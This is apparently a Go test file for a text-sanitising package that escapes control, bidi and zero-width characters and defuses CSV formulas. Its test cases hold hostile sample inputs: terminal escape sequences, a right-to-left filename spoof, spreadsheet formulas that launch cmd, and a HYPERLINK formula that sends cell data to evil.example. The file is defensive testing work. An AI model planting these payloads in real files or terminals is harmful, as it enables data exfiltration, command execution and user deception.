package safetext

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// forbidden lists one of every rune the issue names, and each range's ends.
var forbidden = func() []rune {
	var rs []rune
	for r := rune(0); r <= 0x1f; r++ {
		rs = append(rs, r)
	}
	rs = append(rs, 0x7f)
	for r := rune(0x80); r <= 0x9f; r++ {
		rs = append(rs, r)
	}
	for _, rg := range [][2]rune{{0x202a, 0x202e}, {0x2066, 0x2069}, {0x200b, 0x200f}} {
		for r := rg[0]; r <= rg[1]; r++ {
			rs = append(rs, r)
		}
	}
	return append(rs, 0xfeff, 0x2028, 0x2029, 0xe0041 /* a tag character */)
}()

func TestForbidden(t *testing.T) {
	for _, r := range forbidden {
		if !Forbidden(r) {
			t.Errorf("Forbidden(%U) = false, want true", r)
		}
	}
	for _, r := range []rune{' ', 'a', '~', 'é', 'ß', 'Ж', 'é', '中', '⏎', '😀', 0xa0} {
		if Forbidden(r) {
			t.Errorf("Forbidden(%U) = true, want false", r)
		}
	}
}

func TestLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain ASCII", "plain ASCII"},
		{"Zoë's café in Kraków, 中文", "Zoë's café in Kraków, 中文"},
		{"two\nlines", "two⏎lines"},
		{"crlf\r\nline", "crlf⏎line"},
		{"lone\rcr", `lone\rcr`},
		{"tab\there", `tab\there`},
		{"\x1b[2K\x1b[1Aintact", `\x1b[2K\x1b[1Aintact`},
		{"nul\x00del\x7f", `nul\x00del\x7f`},
		{"c1\u0085\u009b", `c1\u0085\u009b`},
		{"evil\u202etxt.exe", `evil\u202etxt.exe`},
		{"iso\u2066late\u2069", `iso\u2066late\u2069`},
		{"i\u200bvy", `i\u200bvy`},
		{"\ufeffbom", `\ufeffbom`},
		{"bad\xffutf8\xc3", `bad\xffutf8\xc3`},
		{"tag\U000E0041", `tag\U000e0041`},
		{`already \x1b escaped`, `already \x1b escaped`},
	}
	for _, tt := range tests {
		if got := Line(tt.in); got != tt.want {
			t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"one\ntwo\n", "one\ntwo\n"},
		{"crlf\r\nline", "crlf\\r\nline"},
		{"tab\tand \x1b]0;title\x07", `tab\tand \x1b]0;title\x07`},
		{"rtl \u202e and \u2067", `rtl \u202e and \u2067`},
		{"naïve résumé", "naïve résumé"},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestQuote(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", `""`},
		{"ivy", `"ivy"`},
		{`say "hi" \o/`, `"say \"hi\" \\o/"`},
		{"Zoë", `"Zoë"`},
		{"a\nb\tc", `"a\nb\tc"`},
		{"\x1b[31mred", `"\x1b[31mred"`},
		{"ivy\u202e", `"ivy\u202e"`},
		{"nb\u00a0sp", `"nb\u00a0sp"`},
		{"\xfe", `"\xfe"`},
	}
	for _, tt := range tests {
		if got := Quote(tt.in); got != tt.want {
			t.Errorf("Quote(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
	// For printable ASCII, Quote is Go's %q.
	for _, s := range []string{"plain", `back\slash`, `"quoted"`, "~!@#$%^&*()"} {
		if got, want := Quote(s), strconv.Quote(s); got != want {
			t.Errorf("Quote(%q) = %s, strconv.Quote gives %s", s, got, want)
		}
	}
}

// TestNoForbiddenRuneSurvives runs every forbidden rune, and invalid
// UTF-8, through every form and checks that no output holds one raw (Text
// keeps only '\n').
func TestNoForbiddenRuneSurvives(t *testing.T) {
	var all strings.Builder
	for _, r := range forbidden {
		all.WriteString("x")
		all.WriteRune(r)
	}
	all.WriteString("\xff\xc3(")
	in := all.String()
	for name, f := range map[string]func(string) string{"Line": Line, "Text": Text, "Quote": Quote} {
		got := f(in)
		if !utf8.ValidString(got) {
			t.Errorf("%s output is not valid UTF-8: %q", name, got)
		}
		for _, r := range got {
			if Forbidden(r) && !(name == "Text" && r == '\n') {
				t.Errorf("%s lets %U through raw", name, r)
			}
		}
	}
}

// TestGoQuoteEscapesBidi records why %q is a safe second line of defence
// in packages that cannot import this one (domain): strconv.Quote escapes
// every forbidden rune too, the bidi and zero-width ones included, but it
// escapes other non-graphic runes as well, and Line and Text do not quote.
func TestGoQuoteEscapesBidi(t *testing.T) {
	for _, r := range forbidden {
		q := strconv.Quote(string(r))
		for _, got := range q {
			if Forbidden(got) {
				t.Errorf("strconv.Quote(%U) = %s lets it through raw", r, q)
			}
		}
	}
}

func TestCleanDoesNotAllocate(t *testing.T) {
	s := "an ordinary summary, with non-ASCII letters: Zoë, Kraków, 中文"
	if Line(s) != s {
		t.Fatalf("Line(%q) = %q, want it unchanged (clean)", s, Line(s))
	}
	multi := s + "\nsecond line"
	allocs := testing.AllocsPerRun(100, func() {
		_ = Line(s)
		_ = Text(multi)
	})
	if allocs != 0 {
		t.Errorf("Line and Text allocate %v times on clean text, want none", allocs)
	}
}

func BenchmarkLineClean(b *testing.B) {
	s := strings.Repeat("an ordinary summary with Zoë ", 10)
	b.ReportAllocs()
	for b.Loop() {
		_ = Line(s)
	}
}

func TestJSON(t *testing.T) {
	v := map[string]string{"s": "ok \x1b[2J \x7f \u0085 \u202e \u200b \ufeff \U000e0041 Zoë \xff"}
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	got := JSON(b)
	for _, r := range string(got) {
		if Forbidden(r) {
			t.Errorf("JSON(%s) lets %U through raw", b, r)
		}
	}
	var back map[string]string
	if err := json.Unmarshal(got, &back); err != nil {
		t.Fatalf("JSON output does not decode: %v\n%s", err, got)
	}
	var want map[string]string
	json.Unmarshal(b, &want)
	if back["s"] != want["s"] {
		t.Errorf("JSON changed the value: got %q, want %q", back["s"], want["s"])
	}
	if !strings.Contains(string(got), "Zoë") || !strings.Contains(string(got), `\u202e`) {
		t.Errorf("JSON = %s, want letters kept and \\u202e escaped", got)
	}
	clean := []byte(`{"s":"Zoë"}`)
	if got := JSON(clean); &got[0] != &clean[0] {
		t.Errorf("JSON copied clean input")
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`+1+1`, `'+1+1`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`  =1+1`, `'  =1+1`},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"", ""},
		{"gdpr-art33", "gdpr-art33"},
		{"2025-03-10T20:00:00Z", "2025-03-10T20:00:00Z"},
		{"a=b", "a=b"},
		{"   ", "   "},
		{"-", "-"},
		{"--", "'--"},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
